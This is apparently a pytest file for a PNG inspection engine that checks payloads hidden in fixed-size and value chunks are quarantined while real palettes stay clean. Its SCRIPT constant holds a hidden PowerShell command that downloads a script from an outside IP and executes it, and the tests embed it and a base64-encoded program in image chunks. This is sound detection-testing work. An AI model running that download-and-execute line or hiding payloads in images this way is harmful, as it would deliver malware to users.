"""The content of registered PNG chunks is judged (agent/inspect/png.py `_known_chunk_content`).

A decoder reads a fixed number of bytes from each fixed-size chunk (PNG 3rd edition §11:
IHDR 13, gAMA 4, cHRM 32, sRGB 1, pHYs 9, tIME 7, IEND 0; APNG acTL 8, fcTL 26...) and
takes the rest of a value chunk (PLTE, tRNS, hIST, sPLT, pCAL, sCAL) as values of the
writer's choosing. Either one can carry an encoded program or a script. A raw program is
found anywhere by the whole-file search for program headers; an encoded one or a script
line is seen only in a region a judge is given, so those are the payloads here.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient, png_chunk

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIGNATURE_AND_IHDR = 8 + 25  # bytes: signature, then IHDR (length, type, 13 bytes, CRC)

# chunk type -> its fields as a writer fills them (sizes from the PNG specification)
FIXED_FIELDS = {
    b"gAMA": struct.pack(">I", 45455),
    b"sRGB": b"\x00",
    b"pHYs": struct.pack(">IIB", 2835, 2835, 1),
    b"tIME": struct.pack(">HBBBBB", 2026, 12, 2, 14, 0, 0),
    b"cHRM": struct.pack(">8I", 31270, 32900, 64000, 33000, 30000, 60000, 15000, 6000),
    b"bKGD": struct.pack(">HHH", 255, 255, 255),
    b"oFFs": struct.pack(">iiB", 0, 0, 0),
    b"cICP": b"\x01\x0d\x00\x01",
    b"acTL": struct.pack(">II", 1, 0),
}


def _png() -> bytes:
    buffer = io.BytesIO()
    gradient((64, 48)).save(buffer, "PNG")
    return buffer.getvalue()


PNG = _png()


def _after_ihdr(png: bytes, chunk: bytes) -> bytes:
    return png[:SIGNATURE_AND_IHDR] + chunk + png[SIGNATURE_AND_IHDR:]


def _with_iend_data(png: bytes, data: bytes) -> bytes:
    iend = png_chunk(b"IEND", b"")
    assert png.endswith(iend)
    return png[: -len(iend)] + png_chunk(b"IEND", data)


def _verdict(data: bytes) -> str:
    return inspect_bytes("photo.png", data).verdict.value


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("chunk_type", FIXED_FIELDS, ids=bytes.decode)
def test_a_payload_past_a_fixed_chunks_fields_is_quarantined(chunk_type: bytes, kind: str) -> None:
    chunk = png_chunk(chunk_type, FIXED_FIELDS[chunk_type] + PAYLOADS[kind])
    report = inspect_bytes("photo.png", _after_ihdr(PNG, chunk))
    assert report.verdict.value == "quarantine"
    assert "png.unexplained_data" in {f.code for f in report.findings}


@pytest.mark.parametrize("chunk_type", FIXED_FIELDS, ids=bytes.decode)
def test_a_fixed_chunk_of_its_own_size_is_clean(chunk_type: bytes) -> None:
    assert _verdict(_after_ihdr(PNG, png_chunk(chunk_type, FIXED_FIELDS[chunk_type]))) == "clean"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_the_iend_chunk_is_quarantined(kind: str) -> None:
    """IEND's data field is empty (§11.2.5); a decoder stops at its type."""
    assert _verdict(_with_iend_data(PNG, PAYLOADS[kind])) == "quarantine"


def test_an_ihdr_longer_than_13_bytes_hides_nothing() -> None:
    ihdr = PNG[16:29]
    longer = PNG[:8] + png_chunk(b"IHDR", ihdr + SCRIPT) + PNG[SIGNATURE_AND_IHDR:]
    assert _verdict(longer) == "quarantine"


def test_harmless_bytes_past_a_chunks_fields_stay_clean() -> None:
    assert _verdict(_after_ihdr(PNG, png_chunk(b"gAMA", FIXED_FIELDS[b"gAMA"] + bytes(64)))) == (
        "clean"
    )
    assert _verdict(_with_iend_data(PNG, bytes(range(200)))) == "clean"


# --- value chunks -------------------------------------------------------------------------


def _palette(values: bytes) -> bytes:
    """PLTE entries are RGB triples (§11.2.3): at most 256 of them."""
    return values.ljust(-(-len(values) // 3) * 3, b" ")[:768]


VALUE_CHUNKS = {
    b"PLTE": _palette,
    b"tRNS": lambda values: values[:256],
    b"hIST": lambda values: values.ljust(-(-len(values) // 2) * 2, b" "),
    b"sPLT": lambda values: b"palette\x00\x08" + values.ljust(-(-len(values) // 6) * 6, b" "),
    b"pCAL": lambda values: b"calibration\x00" + bytes(9) + b"\x01" + values,
    b"sCAL": lambda values: b"\x01" + values + b"\x00" + b"1.0",
}


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("chunk_type", VALUE_CHUNKS, ids=bytes.decode)
def test_a_payload_in_a_value_chunk_is_quarantined(chunk_type: bytes, kind: str) -> None:
    chunk = png_chunk(chunk_type, VALUE_CHUNKS[chunk_type](PAYLOADS[kind]))
    report = inspect_bytes("photo.png", _after_ihdr(PNG, chunk))
    assert report.verdict.value == "quarantine"
    assert "png.payload_in_metadata" in {f.code for f in report.findings}


def test_real_palettes_and_transparency_stay_clean() -> None:
    """Pillow's palette PNGs: adaptive, grey ramp (00 00 00 01 01 01 ...) and web palettes
    with a tRNS table, all judged as values now."""
    image = gradient((64, 48))
    for palette in (Image.Palette.ADAPTIVE, Image.Palette.WEB):
        for colours in (2, 16, 256):
            out = io.BytesIO()
            image.convert("P", palette=palette, colors=colours).save(out, "PNG", transparency=0)
            assert b"PLTE" in out.getvalue() and b"tRNS" in out.getvalue()
            assert _verdict(out.getvalue()) == "clean", (palette, colours)
    grey = io.BytesIO()
    image.convert("L").convert("P").save(grey, "PNG")
    ramp = bytes(value for value in range(256) for _ in range(3))
    assert _verdict(_after_ihdr(PNG, png_chunk(b"PLTE", ramp))) == "clean"
    assert _verdict(grey.getvalue()) == "clean"


def test_a_harmless_suggested_palette_and_calibration_stay_clean() -> None:
    entries = b"".join(struct.pack(">BBBBH", i, 255 - i, i // 2, 255, 1) for i in range(64))
    calibration = b"temperature\x00" + struct.pack(">iiBB", 0, 100, 0, 2) + b"Celsius\x000\x00100"
    png = _after_ihdr(PNG, png_chunk(b"sPLT", b"suggested\x00\x08" + entries))
    png = _after_ihdr(png, png_chunk(b"pCAL", calibration))
    assert _verdict(png) == "clean"
